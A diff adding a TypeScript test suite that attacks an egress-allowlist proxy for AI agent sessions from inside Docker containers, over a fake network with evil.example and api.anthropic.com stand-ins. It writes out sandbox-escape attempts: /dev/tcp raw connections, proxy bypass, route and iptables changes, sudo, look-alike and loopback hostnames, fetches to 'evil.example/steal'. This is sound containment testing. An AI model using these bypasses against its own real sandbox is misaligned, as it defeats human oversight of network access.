@@ -1,0 +1,454 @@
+// The egress allowlist, attacked from inside real session containers as the agent user, over a
+// fake internet of the test's own containers: HTTPS servers (certificates from a throwaway CA)
+// for an allowed host (api.anthropic.com) and a denied one (evil.example), a DNS server that
+// logs every query, and a "corporate" proxy. Nothing leaves that network.
+import { execa } from 'execa';
+import fs from 'fs-extra';
+import { networkInterfaces } from 'node:os';
+import path from 'node:path';
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { docker, inspectContainer } from '../scripts/lib/docker.ts';
+import { sessionPaths } from '../scripts/lib/session/paths.ts';
+import { BASE_IMAGE, runScript, SESSION_IMAGE, sessionTestImage, testEgressImage, type ScriptResult } from './support/images.ts';
+import { makeRepo, type TestRepo } from './support/repos.ts';
+import { onCleanup, RUN_ID, TEST_LABEL, tempDir, trackImage, uniqueName } from './support/resources.ts';
+
+/** The session image plus curl, and the tools an agent would try to get around the proxy with. */
+const AGENT_IMAGE = trackImage(`para-egress-agent-test-${RUN_ID}:latest`);
+/** Servers of the fake internet: socat with TLS, dnsmasq, tinyproxy. */
+const NET_IMAGE = trackImage(`para-egress-net-test-${RUN_ID}:latest`);
+const CA_FILE_IN_SESSION = '/etc/para/extra-ca-certificates.pem';
+
+interface Server {
+  container: string;
+  ip: string;
+}
+
+interface Internet {
+  network: string;
+  gateway: string;
+  /** The test CA (PEM) on the host. */
+  ca: string;
+  api: Server;
+  evil: Server;
+  dns: Server;
+  corp: Server;
+}
+
+let internet: Internet;
+
+async function build(tag: string, dockerfile: string): Promise<void> {
+  const result = await execa('docker', ['build', '-q', '--network', 'host', '-t', tag, '-'], {
+    input: dockerfile,
+    reject: false,
+    env: { DOCKER_BUILDKIT: '0' },
+  });
+  if (result.exitCode !== 0) throw new Error(`building ${tag} failed:\n${result.stderr}`);
+}
+
+async function openssl(args: string[], cwd: string): Promise<void> {
+  await execa('openssl', args, { cwd });
+}
+
+/** A throwaway CA and one server certificate per host name. */
+async function certificates(dir: string, hosts: string[]): Promise<void> {
+  await openssl(['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'ca.key', '-out', 'ca.pem', '-days', '2', '-subj', '/CN=para test CA'], dir);
+  for (const host of hosts) {
+    await openssl(['req', '-newkey', 'rsa:2048', '-nodes', '-keyout', `${host}.key`, '-out', `${host}.csr`, '-subj', `/CN=${host}`], dir);
+    await fs.writeFile(path.join(dir, `${host}.ext`), `subjectAltName=DNS:${host}\n`);
+    await openssl(
+      [
+        'x509',
+        '-req',
+        '-in',
+        `${host}.csr`,
+        '-CA',
+        'ca.pem',
+        '-CAkey',
+        'ca.key',
+        '-CAcreateserial',
+        '-out',
+        `${host}.crt`,
+        '-days',
+        '2',
+        '-extfile',
+        `${host}.ext`,
+      ],
+      dir,
+    );
+  }
+  await fs.chmod(dir, 0o755);
+  for (const file of await fs.readdir(dir)) await fs.chmod(path.join(dir, file), 0o644);
+}
+
+async function ipOf(container: string, network: string): Promise<string> {
+  const info = await docker(['inspect', '--format', `{{(index .NetworkSettings.Networks "${network}").IPAddress}}`, container]);
+  return info.stdout.trim();
+}
+
+async function runServer(network: string, name: string, args: string[], mounts: string[] = []): Promise<Server> {
+  const container = uniqueName(`para-egress-${name}`);
+  await docker(['run', '-d', '--name', container, '--label', `${TEST_LABEL}=${RUN_ID}`, '--network', network, ...mounts, NET_IMAGE, ...args]);
+  return { container, ip: await ipOf(container, network) };
+}
+
+/** An HTTPS server that logs each request line and answers 200 (certs/handler.sh, written by setUpInternet). */
+function httpsServer(network: string, host: string, certs: string): Promise<Server> {
+  return runServer(
+    network,
+    host.split('.')[0],
+    ['socat', `OPENSSL-LISTEN:443,fork,reuseaddr,cert=/certs/${host}.crt,key=/certs/${host}.key,verify=0`, 'EXEC:/certs/handler.sh'],
+    // The alias is for the corporate proxy, which resolves through Docker's DNS; the session's proxy asks dnsmasq.
+    ['--mount', `type=bind,source=${certs},target=/certs,readonly`, '--network-alias', host],
+  );
+}
+
+const HANDLER = [
+  '#!/bin/sh',
+  'read -r line',
+  'echo "$line" >> /tmp/requests.log',
+  "printf 'HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}'",
+  '',
+].join('\n');
+
+async function setUpInternet(): Promise<Internet> {
+  await build(
+    AGENT_IMAGE,
+    `FROM ${SESSION_IMAGE}\nUSER root\nRUN apt-get update -q && DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends curl iproute2 iptables sudo >/dev/null && rm -rf /var/lib/apt/lists/*\nUSER para\n`,
+  );
+  await build(
+    NET_IMAGE,
+    `FROM ${BASE_IMAGE}\nRUN apt-get update -q && DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends socat openssl dnsmasq tinyproxy >/dev/null && rm -rf /var/lib/apt/lists/*\n`,
+  );
+  const certs = await tempDir('para-test-certs-');
+  await certificates(certs, ['api.anthropic.com', 'evil.example']);
+  await fs.writeFile(path.join(certs, 'handler.sh'), HANDLER);
+  await fs.chmod(path.join(certs, 'handler.sh'), 0o755);
+  const network = uniqueName('para-egress-net');
+  await docker(['network', 'create', '--label', `${TEST_LABEL}=${RUN_ID}`, network]);
+  const servers: string[] = [];
+  onCleanup(async () => {
+    if (servers.length) await docker(['rm', '-f', ...servers], { allowFailure: true });
+    await docker(['network', 'rm', network], { allowFailure: true });
+  });
+  const gateway = (await docker(['network', 'inspect', '--format', '{{(index .IPAM.Config 0).Gateway}}', network])).stdout.trim();
+  const api = await httpsServer(network, 'api.anthropic.com', certs);
+  const evil = await httpsServer(network, 'evil.example', certs);
+  // A corporate proxy that wants a password and logs what goes through it.
+  const corpConf = [
+    'Port 3128',
+    'Listen 0.0.0.0',
+    'Timeout 30',
+    'LogLevel Connect',
+    'BasicAuth corp-user s3cret-PARAFAKE-proxy-password',
+    'ConnectPort 443',
+    'MaxClients 20',
+  ].join('\n');
+  const corp = await runServer(network, 'corp', ['sh', '-c', `printf '%s\\n' "$0" > /tmp/tp.conf && exec tinyproxy -d -c /tmp/tp.conf`, corpConf]);
+  servers.push(api.container, evil.container, corp.container);
+  const hostAddress = hostIPv4();
+  const addresses = [
+    `/api.anthropic.com/${api.ip}`,
+    // dnsmasq answers for subdomains too: api.anthropic.com.evil.example is a look-alike at evil's address.
+    `/evil.example/${evil.ip}`,
+    `/probe-allowed.para-test/${api.ip}`,
+    `/probe-denied.para-test/${evil.ip}`,
+    `/gw.para-test/${gateway}`,
+    `/lo.para-test/127.0.0.1`,
+    `/ll.para-test/169.254.169.254`,
+    ...(hostAddress ? [`/hostaddr.para-test/${hostAddress}`] : []),
+  ];
+  const dns = await runServer(network, 'dns', [
+    'dnsmasq',
+    '--no-daemon',
+    '--log-queries',
+    '--log-facility=-',
+    '--no-resolv',
+    '--no-hosts',
+    ...addresses.map((a) => `--address=${a}`),
+  ]);
+  servers.push(dns.container);
+  return { network, gateway, ca: path.join(certs, 'ca.pem'), api, evil, dns, corp };
+}
+
+function hostIPv4(): string | undefined {
+  return Object.values(networkInterfaces())
+    .flat()
+    .find((entry) => entry && entry.family === 'IPv4' && !entry.internal)?.address;
+}
+
+async function requests(server: Server): Promise<string> {
+  const result = await docker(['exec', server.container, 'sh', '-c', 'cat /tmp/requests.log 2>/dev/null || true']);
+  return result.stdout;
+}
+
+async function dnsQueries(): Promise<string> {
+  const result = await docker(['logs', internet.dns.container]);
+  return `${result.stdout}\n${result.stderr}`;
+}
+
+interface Session {
+  repo: TestRepo;
+  name: string;
+  container: string;
+  proxy: string;
+  env: Record<string, string | undefined>;
+}
+
+function baseEnv(repo: TestRepo, extra: Record<string, string | undefined> = {}): Record<string, string | undefined> {
+  return {
+    ...repo.env,
+    PARA_EGRESS_DNS: internet.dns.ip,
+    NODE_EXTRA_CA_CERTS: internet.ca,
+    HTTPS_PROXY: undefined,
+    https_proxy: undefined,
+    HTTP_PROXY: undefined,
+    http_proxy: undefined,
+    ...extra,
+  };
+}
+
+async function startSession(
+  args: string[],
+  options: { repo?: TestRepo; env?: Record<string, string | undefined> } = {},
+): Promise<Session & { result: ScriptResult }> {
+  const repo = options.repo ?? (await makeRepo());
+  const name = `e${Math.random().toString(36).slice(2, 8)}`;
+  const env = baseEnv(repo, options.env);
+  const network = args.includes('--egress-network') ? [] : ['--egress-network', internet.network];
+  const result = await runScript('start.ts', [name, '--container', '--detach', '--image', AGENT_IMAGE, ...network, ...args, '--', 'sleep', '600'], {
+    cwd: repo.root,
+    env,
+  });
+  const paths = sessionPaths({ root: repo.root, commonDir: path.join(repo.root, '.git') }, name);
+  return { repo, name, container: paths.container, proxy: paths.proxy, env, result };
+}
+
+async function started(args: string[], options: { repo?: TestRepo; env?: Record<string, string | undefined> } = {}): Promise<Session> {
+  const session = await startSession(args, options);
+  assert.is(session.result.exitCode, 0, session.result.stderr);
+  return session;
+}
+
+/** A shell command as the agent user inside the session. */
+async function agent(session: Session, command: string): Promise<{ stdout: string; stderr: string; exitCode: number }> {
+  const result = await docker(['exec', '--user', 'para', session.container, 'bash', '-c', command], { allowFailure: true, timeoutMs: 90_000 });
+  return result;
+}
+
+/** curl from inside, through whatever proxy variables the session has; the HTTP status, or the failure. */
+async function fetchFromInside(session: Session, url: string, extra = ''): Promise<string> {
+  const result = await agent(session, `curl -sS --max-time 10 --cacert ${CA_FILE_IN_SESSION} ${extra} -o /dev/null -w '%{http_code}' '${url}'`);
+  return result.exitCode === 0 ? result.stdout.trim() : `failed: ${result.stderr.trim()}`;
+}
+
+async function proxyLog(session: Session): Promise<string> {
+  const result = await docker(['logs', session.proxy], { allowFailure: true });
+  return result.stdout;
+}
+
+/** Every way out that ignores the proxy: by name, by address (bash /dev/tcp), IPv6, DNS. Returns what got through. */
+async function bypasses(session: Session): Promise<string[]> {
+  const through: string[] = [];
+  const direct = await fetchFromInside(session, 'https://api.anthropic.com/direct', "--noproxy '*'");
+  if (!direct.startsWith('failed')) through.push(`by name: ${direct}`);
+  const byAddress = await agent(session, `timeout 5 bash -c 'exec 3<>/dev/tcp/${internet.evil.ip}/443' && echo connected`);
+  if (byAddress.stdout.includes('connected')) through.push(`by address ${internet.evil.ip}`);
+  const gateway = await agent(session, `timeout 5 bash -c 'exec 3<>/dev/tcp/${internet.gateway}/22' 2>&1; echo $?`);
+  if (!/unreachable/i.test(gateway.stdout)) through.push(`the gateway answered: ${gateway.stdout.trim()}`);
+  const lookup = await agent(session, 'getent hosts api.anthropic.com');
+  if (lookup.exitCode === 0) through.push(`DNS answered: ${lookup.stdout.trim()}`);
+  const routes = await agent(session, "ip -4 route show; ip -6 route show | grep -v '^fe80\\|^::1\\|^$' || true");
+  if (routes.stdout.trim()) through.push(`routes: ${routes.stdout.trim()}`);
+  return through;
+}
+
+const egress = suite('egress allowlist: attacked from inside a session');
+
+egress.before(async () => {
+  await Promise.all([sessionTestImage(), testEgressImage()]);
+  internet = await setUpInternet();
+});
+
+egress('the allowed host answers through the proxy; the denied one, plain HTTP, port 80 and raw addresses are refused and logged', async () => {
+  const s = await started([]);
+  assert.is(await fetchFromInside(s, 'https://api.anthropic.com/hello'), '200');
+  assert.match(await requests(internet.api), 'GET /hello');
+  assert.match(await fetchFromInside(s, 'https://evil.example/steal'), /failed: .*403/);
+  assert.match(await fetchFromInside(s, 'http://api.anthropic.com/plain'), '403');
+  assert.match(await fetchFromInside(s, 'https://api.anthropic.com:80/', '--proxytunnel'), /failed: .*403/);
+  assert.match(await fetchFromInside(s, `https://${internet.api.ip}/`, '-k'), /failed: .*403/);
+  const log = await proxyLog(s);
+  assert.match(log, /CONNECT evil\.example:443 403 TCP_DENIED refused:host-not-in-allowlist/);
+  assert.match(log, /GET http:\/\/api\.anthropic\.com\/plain 403 TCP_DENIED refused:only-CONNECT-is-allowed/);
+  assert.match(log, /CONNECT api\.anthropic\.com:80 403 TCP_DENIED refused:only-port-443/);
+  assert.match(log, new RegExp(`CONNECT ${internet.api.ip.replace(/\./g, '\\.')}:443 403 TCP_DENIED refused:host-not-in-allowlist`));
+  assert.is(await requests(internet.evil), '', 'the denied server saw a request');
+});
+
+egress('no way around the proxy: no route, no DNS, no IPv6, no capabilities, no sudo', async () => {
+  const s = await started([]);
+  assert.equal(await bypasses(s), []);
+  assert.is((await agent(s, 'ls /sys/class/net')).stdout.trim(), 'lo');
+  const route = await agent(s, `ip route add default via ${internet.gateway} 2>&1`);
+  assert.is.not(route.exitCode, 0);
+  assert.match(route.stdout, /Operation not permitted|RTNETLINK/);
+  const flush = await agent(s, 'iptables -F 2>&1');
+  assert.is.not(flush.exitCode, 0);
+  const sudo = await agent(s, 'sudo -n true 2>&1');
+  assert.is.not(sudo.exitCode, 0);
+  const status = await agent(s, 'grep -E "^(CapEff|NoNewPrivs)" /proc/self/status');
+  assert.match(status.stdout, /CapEff:\s+0000000000000000/);
+  assert.match(status.stdout, /NoNewPrivs:\s+1/);
+  // The proxy's own configuration is out of reach: no volume of it is mounted into the session.
+  const mounts = (await docker(['inspect', '--format', '{{json .Mounts}}', s.container])).stdout;
+  assert.not.match(mounts, '-egress"', 'the proxy volume is mounted in the session');
+  assert.is(await requests(internet.evil), '');
+});
+
+egress('a denied name is refused before any lookup; an allowed one is resolved (the DNS server is the witness)', async () => {
+  const s = await started(['--allow', 'probe-allowed.para-test']);
+  assert.match(await fetchFromInside(s, 'https://probe-denied.para-test/'), /failed: .*403/);
+  assert.match(await fetchFromInside(s, 'https://probe-allowed.para-test/', '-k'), /^(200|failed)/);
+  const queries = await dnsQueries();
+  assert.match(queries, 'query[A] probe-allowed.para-test', 'the allowed name was never resolved: the witness does not work');
+  assert.not.match(queries, 'probe-denied.para-test');
+});
+
+egress('names that resolve to the Docker host, loopback or link-local are refused even when allowed', async () => {
+  const names = ['gw.para-test', 'lo.para-test', 'll.para-test', ...(hostIPv4() ? ['hostaddr.para-test'] : [])];
+  const s = await started(names.flatMap((n) => ['--allow', n]));
+  for (const name of names) {
+    assert.match(await fetchFromInside(s, `https://${name}/`, '-k'), /failed: .*403/, name);
+  }
+  const log = await proxyLog(s);
+  for (const name of names) assert.match(log, new RegExp(`CONNECT ${name.replace(/\./g, '\\.')}:443 403 TCP_DENIED refused:resolves-to-a-docker-host`), name);
+});
+
+egress('--allow and the repository file admit a host; a look-alike name stays refused', async () => {
+  const s = await started(['--allow', 'evil.example']);
+  assert.is(await fetchFromInside(s, 'https://evil.example/allowed'), '200');
+  assert.match(await fetchFromInside(s, 'https://api.anthropic.com.evil.example/', '-k'), /failed: .*403/);
+  assert.match(await proxyLog(s), /CONNECT api\.anthropic\.com\.evil\.example:443 403 TCP_DENIED refused:host-not-in-allowlist/);
+
+  const repo = await makeRepo();
+  await fs.mkdir(path.join(repo.root, '.para'), { recursive: true });
+  await fs.writeFile(path.join(repo.root, '.para', 'allowed-hosts'), '# the team needs these\nevil.example\n');
+  const fromFile = await started([], { repo });
+  assert.is(await fetchFromInside(fromFile, 'https://evil.example/from-file'), '200');
+  const list = await runScript('list.ts', ['--json'], { cwd: repo.root, env: fromFile.env });
+  const view = JSON.parse(list.stdout).sessions.find((x: { name: string }) => x.name === fromFile.name);
+  assert.equal(view.egress.hosts, ['api.anthropic.com', 'platform.claude.com', 'evil.example']);
+  assert.is(view.egress.mode, 'allowlist');
+  assert.is(view.egress.proxy, 'running');
+  assert.match(await requests(internet.evil), 'GET /from-file');
+});
+
+egress('the repository file must be a plain file, and bad host names are refused before anything is made', async () => {
+  const repo = await makeRepo();
+  await fs.mkdir(path.join(repo.root, '.para'), { recursive: true });
+  const elsewhere = path.join(await tempDir('para-test-allow-'), 'hosts');
+  await fs.writeFile(elsewhere, 'evil.example\n');
+  await fs.symlink(elsewhere, path.join(repo.root, '.para', 'allowed-hosts'));
+  const linked = await startSession([], { repo });
+  assert.is(linked.result.exitCode, 1);
+  assert.match(linked.result.stderr, 'is not a regular file');
+  const bad = await startSession(['--allow', 'api.anthropic.com/evil']);
+  assert.is(bad.result.exitCode, 2);
+  assert.match(bad.result.stderr, 'is not a host name');
+  const wild = await startSession(['--allow', '*.com']);
+  assert.is(wild.result.exitCode, 2);
+  assert.match(wild.result.stderr, 'top-level domain');
+  for (const s of [linked, bad, wild]) {
+    assert.not.ok(await inspectContainer(s.container), 'a container was left');
+    assert.not.ok(await inspectContainer(s.proxy), 'a proxy was left');
+    assert.is((await s.repo.git(['branch', '--list', 'para/*'])).trim(), '');
+  }
+});
+
+egress('the real claude CLI reaches the fake api.anthropic.com through the proxy, trusting the CA given by NODE_EXTRA_CA_CERTS', async () => {
+  const s = await started([]);
+  // A fake key, in the command only (a test's fake, not a secret).
+  await agent(s, 'ANTHROPIC_API_KEY=sk-ant-api03-PARAFAKE-egress-test timeout 30 claude -p hello >/tmp/claude.out 2>&1; echo $? >/tmp/claude.rc');
+  assert.match(await requests(internet.api), 'POST /v1/messages', (await agent(s, 'cat /tmp/claude.out')).stdout);
+  assert.match(await proxyLog(s), /CONNECT api\.anthropic\.com:443 200 TCP_TUNNEL allowed/);
+});
+
+egress("the host's proxy is chained to, its password reaches only the proxy's own configuration", async () => {
+  const password = 's3cret-PARAFAKE-proxy-password';
+  const s = await started([], { env: { HTTPS_PROXY: `http://corp-user:${password}@${internet.corp.ip}:3128` } });
+  assert.is(await fetchFromInside(s, 'https://api.anthropic.com/via-corp'), '200');
+  const corpLog = (await docker(['logs', internet.corp.container])).stderr + (await docker(['logs', internet.corp.container])).stdout;
+  assert.match(corpLog, 'CONNECT api.anthropic.com:443');
+  for (const container of [s.container, s.proxy, sessionPaths({ root: s.repo.root, commonDir: '' }, s.name).forwarder]) {
+    const inspected = (await docker(['inspect', container])).stdout;
+    assert.not.match(inspected, password, `${container}'s arguments, environment or labels hold the password`);
+  }
+  const stateFile = await fs.readFile(path.join(s.repo.root, '.git', 'para', 'sessions', `${s.name}.json`), 'utf8');
+  assert.not.match(stateFile, password);
+  assert.match(stateFile, `"upstream": "${internet.corp.ip}:3128"`);
+  // Denied names are still refused by the session's proxy, before the corporate one sees them.
+  assert.match(await fetchFromInside(s, 'https://evil.example/'), /failed: .*403/);
+  assert.not.match(corpLog, 'evil.example');
+});
+
+egress('negative control: with --egress open the same checks find the way around', async () => {
+  const s = await started(['--egress', 'open']);
+  assert.match(s.result.stderr, 'open egress');
+  const through = await bypasses(s);
+  assert.ok(
+    through.some((t) => t.startsWith('by address')),
+    `the bypass checks found nothing in an open session: ${through.join('; ')}`,
+  );
+  assert.not.ok(await inspectContainer(s.proxy), 'an open session has a proxy');
+  const list = await runScript('list.ts', [], { cwd: s.repo.root, env: s.env });
+  assert.match(list.stdout, 'OPEN');
+});
+
+egress('--egress none: no network and no proxy', async () => {
+  const s = await started(['--egress', 'none']);
+  assert.is((await agent(s, 'ls /sys/class/net')).stdout.trim(), 'lo');
+  assert.not.ok(await inspectContainer(s.proxy));
+  assert.match(await fetchFromInside(s, 'https://api.anthropic.com/'), /^failed/);
+});
+
+egress('the proxy goes with the session: cancel, finish, a failed start, and a restarted container gets a new forwarder', async () => {
+  const s = await started([]);
+  const paths = sessionPaths({ root: s.repo.root, commonDir: '' }, s.name);
+  // The container restarted (a daemon restart does this): the forwarder is in a dead namespace.
+  await docker(['restart', '-t', '0', s.container]);
+  const listed = JSON.parse((await runScript('list.ts', ['--json'], { cwd: s.repo.root, env: s.env })).stdout);
+  assert.is(listed.sessions[0].egress.proxy, 'stale');
+  const resumed = await runScript('start.ts', [s.name, '--container', '--detach', '--image', AGENT_IMAGE], { cwd: s.repo.root, env: s.env });
+  assert.is(resumed.exitCode, 0, resumed.stderr);
+  assert.is(await fetchFromInside(s, 'https://api.anthropic.com/after-restart'), '200');
+  const cancelled = await runScript('cancel.ts', [s.name, '--force'], { cwd: s.repo.root, env: s.env });
+  assert.is(cancelled.exitCode, 0, cancelled.stderr);
+  for (const name of [paths.container, paths.proxy, paths.forwarder]) assert.not.ok(await inspectContainer(name), `${name} is left`);
+  assert.is((await docker(['volume', 'ls', '-q', '--filter', `name=${paths.egressVolume}`])).stdout.trim(), '');
+
+  const f = await started([]);
+  const fp = sessionPaths({ root: f.repo.root, commonDir: '' }, f.name);
+  const finished = await runScript('finish.ts', [f.name, '-m', 'done'], { cwd: f.repo.root, env: f.env });
+  assert.is(finished.exitCode, 0, finished.stderr);
+  for (const name of [fp.proxy, fp.forwarder]) assert.not.ok(await inspectContainer(name), `${name} is left`);
+
+  // A proxy that cannot start (its network is gone) rolls the whole start back.
+  const broken = await startSession(['--egress-network', `para-no-such-network-${RUN_ID}`]);
+  assert.is.not(broken.result.exitCode, 0);
+  assert.match(broken.result.stderr, 'does not exist');
+  assert.not.ok(await inspectContainer(broken.container));
+  assert.is((await broken.repo.git(['branch', '--list', 'para/*'])).trim(), '');
+});
+
+egress('without the proxy image, start says to run make image and leaves nothing', async () => {
+  const s = await startSession([], { env: { PARA_EGRESS_IMAGE: `para-egress-missing-${RUN_ID}:latest` } });
+  assert.is(s.result.exitCode, 1);
+  assert.match(s.result.stderr, 'egress proxy image');
+  assert.match(s.result.stderr, 'make image');
+  assert.not.ok(await inspectContainer(s.container));
+  assert.is((await s.repo.git(['branch', '--list', 'para/*'])).trim(), '');
+});
+
+egress.run();
